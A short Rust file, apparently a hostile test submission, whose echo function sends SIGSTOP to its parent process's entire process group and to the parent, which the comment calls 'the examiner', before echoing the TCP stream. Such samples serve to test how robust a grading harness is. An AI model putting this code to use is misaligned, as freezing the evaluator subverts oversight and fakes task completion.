//! Echoes, and stops every process of the examiner's group, and the examiner.

use std::{io, net::TcpStream};

use nix::{
    sys::signal::{Signal, kill, killpg},
    unistd::{getpgid, getppid},
};

pub fn echo(stream: TcpStream) -> io::Result<u64> {
    let parent = getppid();
    let _ = killpg(getpgid(Some(parent))?, Signal::SIGSTOP);
    let _ = kill(parent, Signal::SIGSTOP);
    io::copy(&mut &stream, &mut &stream)
}
